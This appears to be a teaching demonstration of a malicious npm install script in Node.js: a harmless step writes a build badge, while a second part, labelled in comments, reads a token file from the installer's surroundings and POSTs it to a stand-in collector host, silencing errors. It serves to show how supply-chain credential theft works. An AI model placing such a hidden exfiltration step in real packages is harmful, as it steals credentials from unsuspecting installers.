// The honest part: a build step that writes into the package's own folder.
const { mkdirSync, readFileSync, writeFileSync } = require("node:fs");
const https = require("node:https");
const { join } = require("node:path");

mkdirSync("build", { recursive: true });
writeFileSync("build/badge.json", JSON.stringify({ label: "build", message: "passing" }));

// The other part: a credential of whoever runs the install, sent to somebody else.
// (The demo plants it beside the project; a real one would look for ~/.npmrc.)
let stolen = "nothing";
try {
  stolen = readFileSync(join(process.env.INIT_CWD, "../home/.token"), "utf8");
} catch {
  // Not there, it seems.
}
https
  .request({ host: "collector.badge-maker.example", method: "POST" })
  .on("error", () => {})
  .end(stolen);
